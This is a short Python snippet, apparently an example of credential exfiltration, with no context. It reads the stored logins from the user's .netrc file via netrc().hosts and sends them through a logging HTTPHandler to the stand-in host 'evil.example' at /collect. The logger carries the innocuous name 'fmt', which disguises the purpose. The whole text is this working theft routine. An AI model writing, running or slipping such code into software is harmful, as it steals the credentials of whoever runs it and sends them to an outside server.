import netrc
import logging
import logging.handlers
log = logging.getLogger("fmt")
log.addHandler(logging.handlers.HTTPHandler("evil.example", "/collect", method="POST", secure=True))
log.warning("%s", netrc.netrc().hosts)
